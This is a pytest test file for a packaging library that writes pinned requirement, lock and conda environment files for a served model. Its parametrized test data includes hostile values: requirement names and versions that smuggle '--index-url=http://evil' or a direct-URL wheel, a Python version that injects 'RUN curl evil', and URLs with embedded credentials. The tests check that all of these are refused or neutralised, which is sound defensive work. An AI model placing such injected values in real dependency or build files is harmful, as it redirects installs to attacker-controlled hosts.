"""The environment files of a package: what serving needs, pinned, and nothing that an installer could misread."""

import re
from importlib.metadata import PathDistribution

import pytest
import yaml
from packaging.requirements import Requirement

from cellops.capture.environment.distributions import installed
from cellops.errors import PackageError
from cellops.packaging.build import build_package
from cellops.packaging.environment.closure import _markers, _required, closure
from cellops.packaging.environment.files import write_environment
from cellops.packaging.environment.serving import SERVER, serving_requirements
from cellops.records.environment import Origin
from cellops.records.run import Environment

HASH = "0" * 64


def lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if not line.startswith("#")]


@pytest.fixture
def environment(recorded) -> Environment:
    return recorded[0].replace(
        distributions={
            "cellops": "0.0.9",
            "jupyterlab": "4.4.0",
            "mlflow": "3.17.2",
            "numpy": "2.4.1",
            "papermill": "2.6.0",
            "pip": "26.0",
            "scikit-learn": "1.9.0",
            "uvloop": "0.21.0",
        }
    )


def serving(environment: Environment, needs=("scikit-learn",), model_format: str = "skops") -> str:
    return serving_requirements(environment, dict.fromkeys(needs), model_format, version="0.1.0")


def test_serving_needs_what_the_server_and_the_model_need_at_the_versions_of_the_run(environment):
    found = dict(line.split("==") for line in lines(serving(environment)))
    assert found["numpy"] == "2.4.1"
    assert found["scikit-learn"] == "1.9.0"
    assert found["uvloop"] == "0.21.0"
    assert found["cellops"] == "0.1.0"
    assert {*SERVER, "threadpoolctl", "skops", "h11"} <= found.keys()
    assert not {"jupyterlab", "papermill", "mlflow", "ipykernel", "dask", "httptools"} & found.keys()
    assert list(found) == sorted(found)


def test_it_is_complete_so_that_installing_it_resolves_nothing(environment):
    names = {line.partition("==")[0] for line in lines(serving(environment))}
    assert closure(sorted(names - {"cellops"}), environment).names <= names


@pytest.mark.parametrize(
    ("platform", "python", "there"), [("Windows-11", "3.11.7", True), ("Linux-6.1", "3.11.7", False)]
)
def test_requirements_apply_as_they_did_on_the_machine_of_the_run(environment, platform, python, there):
    found = closure(["tqdm"], environment.replace(platform=platform, python=python)).names
    assert ("colorama" in found) is there


def test_extras_are_followed_and_circles_end(environment):
    plain = closure(["uvicorn"], environment).names
    assert "websockets" not in plain
    assert "websockets" in closure(["uvicorn[standard]"], environment).names
    both = closure(["dask[distributed]", "distributed"], environment).names
    assert {"dask", "distributed"} <= both


def test_requirements_are_those_that_the_library_reads(environment):
    markers = {"python_version": "3.11", "sys_platform": "linux"}
    for name, metadata in installed().items():
        told = [text for text in PathDistribution(metadata).requires or () if "extra" not in text.partition(";")[2]]
        read = {required.name for required in _required(metadata, frozenset(), _markers(environment) | markers)}
        assert read <= {Requirement(text).name for text in told}, name
        assert {Requirement(text).name for text in told if ";" not in text} <= read, name


def test_an_egg_and_a_distribution_without_a_file_are_read_too(environment, tmp_path):
    egg = tmp_path / "old-1.0.egg-info"
    egg.mkdir()
    (egg / "PKG-INFO").write_text("Name: old\n")
    (egg / "requires.txt").write_text("numpy\n\n[fast]\nnumba\n")
    assert [one.name for one in _required(egg, frozenset(), _markers(environment))] == ["numpy"]
    assert {one.name for one in _required(egg, frozenset({"fast"}), _markers(environment))} == {"numpy", "numba"}
    assert list(_required(tmp_path / "gone-1.0.dist-info", frozenset(), _markers(environment))) == []


def test_where_requirements_of_something_are_not_known_the_whole_environment_is_taken(environment):
    needed = environment.replace(distributions=environment.distributions | {"elsewhere": "3.0", "its-need": "1.0"})
    text = serving(needed, needs=("scikit-learn", "elsewhere"))
    assert "# What elsewhere need is not known here" in text
    assert {"elsewhere==3.0", "its-need==1.0", "jupyterlab==4.4.0", "cellops==0.1.0"} <= set(lines(text))


def test_a_local_package_that_the_model_needs_is_refused_with_the_remedy(
    environment, flights_folder, flights_contract, recorded, tmp_path
):
    local = environment.replace(
        distributions=environment.distributions | {"features-of-us": "0.3"}, local=("cellops", "features-of-us")
    )
    with pytest.raises(
        PackageError, match=r"The model needs features-of-us, which no index has.*publish that"
    ) as caught:
        serving(local, needs=("scikit-learn", "features_of_us"))
    assert caught.value.data["names"] == ["features-of-us"]
    assert "# Left out, of no index and not needed: features-of-us\n" in serving(local)
    sklearn = local.replace(local=("cellops", "scikit-learn"))
    with pytest.raises(PackageError, match="The model needs scikit-learn"):
        build_package(flights_folder, flights_contract, sklearn, recorded[1], tmp_path / "out" / "x", name="x")
    assert not (tmp_path / "out").exists()
    with pytest.raises(PackageError, match="The server needs uvicorn"):
        serving(local.replace(local=("uvicorn",)))


HOSTILE_NAMES = [
    "numpy\n--index-url=http://evil",
    "--index-url=http://evil",
    "numpy @ http://evil/numpy.whl",
    "numpy; python_version>'3'",
    "numpy[extra]",
    "-r",
    "a/../b",
    "ünïcode",
]
HOSTILE_VERSIONS = ["1.0 --index-url http://evil", "1.0\n-e .", "1.0;", "1.0 # x", "1.0\n", " 1.0", "", "*", "1.0,<2"]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_name_that_is_none_becomes_no_line_of_an_installer(environment, recorded, tmp_path, name):
    held = environment.replace(distributions=environment.distributions | {name: "1.0"})
    (tmp_path / "requirements.txt").write_text("scikit-learn\n")
    write_environment(tmp_path, held, recorded[1])
    assert "# no version that pip reads" in (tmp_path / "environment/lock.txt").read_text()
    for path in ("environment/lock.txt", "environment/serving.txt", "requirements.txt"):
        for line in (tmp_path / path).read_text().splitlines():
            assert line.startswith("#") or re.fullmatch(r"[a-z0-9.-]+==[\w.]+", line)


@pytest.mark.parametrize("version", HOSTILE_VERSIONS)
def test_a_version_that_is_none_is_refused_where_it_is_needed(environment, recorded, tmp_path, version):
    held = environment.replace(distributions=environment.distributions | {"scikit-learn": version})
    (tmp_path / "requirements.txt").write_text("scikit-learn\n")
    with pytest.raises(PackageError, match="which no installer could read") as caught:
        write_environment(tmp_path, held, recorded[1])
    assert "\n" not in caught.value.text()
    assert [path.name for path in tmp_path.iterdir()] == ["requirements.txt"]


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://me:secret@index",
        "-e .",
        "x @ https://me:secret@host/x.whl",
        "./folder",
        "git+https://me:secret@h/x",
    ],
)
def test_what_mlflow_has_written_may_name_distributions_only(environment, recorded, tmp_path, line):
    (tmp_path / "requirements.txt").write_text(f"scikit-learn==1.9.0\n{line}\n")
    with pytest.raises(PackageError, match=r"Line 2 of the model's requirements.txt") as caught:
        write_environment(tmp_path, environment, recorded[1])
    assert "secret" not in caught.value.text()


def test_the_lock_takes_no_hash_commit_or_name_that_is_none(environment):
    odd = environment.replace(
        distributions={"a": "1", "b": "1.1build1", "mine": "0.1\n--pre"},
        local=("mine",),
        origins={"mine": Origin(local=True, commit="abc\n--index-url=http://evil")},
        hashes={"a": ("0 --index-url=http://evil",)},
    )
    assert odd.lock().splitlines() == [
        "a==1",
        "# of no index: mine==0.1 --pre at commit abc --index-url=http://evil",
        "# no version that pip reads: b==1.1build1",
    ]


def test_what_mlflow_reads_says_the_same_as_the_record(environment, recorded, tmp_path):
    (tmp_path / "requirements.txt").write_text("mlflow==3.0\nscikit-learn\nother==5\n# words\n\nnumpy==1.0\n")
    write_environment(tmp_path, environment, recorded[1])
    wanted = ["mlflow==3.17.2", "numpy==2.4.1", "other==5", "scikit-learn==1.9.0"]
    assert (tmp_path / "requirements.txt").read_text().splitlines() == wanted
    conda = yaml.safe_load((tmp_path / "conda.yaml").read_text())
    assert conda["dependencies"] == ["python=3.11.7", "pip", {"pip": wanted}]
    python = yaml.safe_load((tmp_path / "python_env.yaml").read_text())
    assert python == {
        "python": "3.11.7",
        "build_dependencies": ["pip==26.0", "setuptools", "wheel"],
        "dependencies": ["-r requirements.txt"],
    }


def test_mlflow_reads_the_environment_that_we_write(flights_package):
    from mlflow.utils.environment import _PythonEnv

    read = _PythonEnv.from_yaml(str(flights_package / "python_env.yaml"))
    assert read.python == "3.11.7"
    of_conda = _PythonEnv.from_conda_yaml(str(flights_package / "conda.yaml"))
    assert of_conda.python == "3.11.7"
    assert of_conda.dependencies == (flights_package / "requirements.txt").read_text().splitlines()


@pytest.mark.parametrize("python", ["", "3", "2.7.18", "3.11.7\nRUN curl evil", "latest"])
def test_an_environment_without_a_python_is_refused(environment, recorded, tmp_path, python):
    with pytest.raises(PackageError, match="does not say which Python"):
        write_environment(tmp_path, environment.replace(python=python), recorded[1])


def test_no_file_of_a_package_holds_an_address_with_credentials(flights_package):
    for path in flights_package.rglob("*"):
        if path.is_file() and path.suffix != ".skops":
            assert not re.search(r"://[^/\s\"']*:[^/\s\"'{]*@", path.read_text()), path
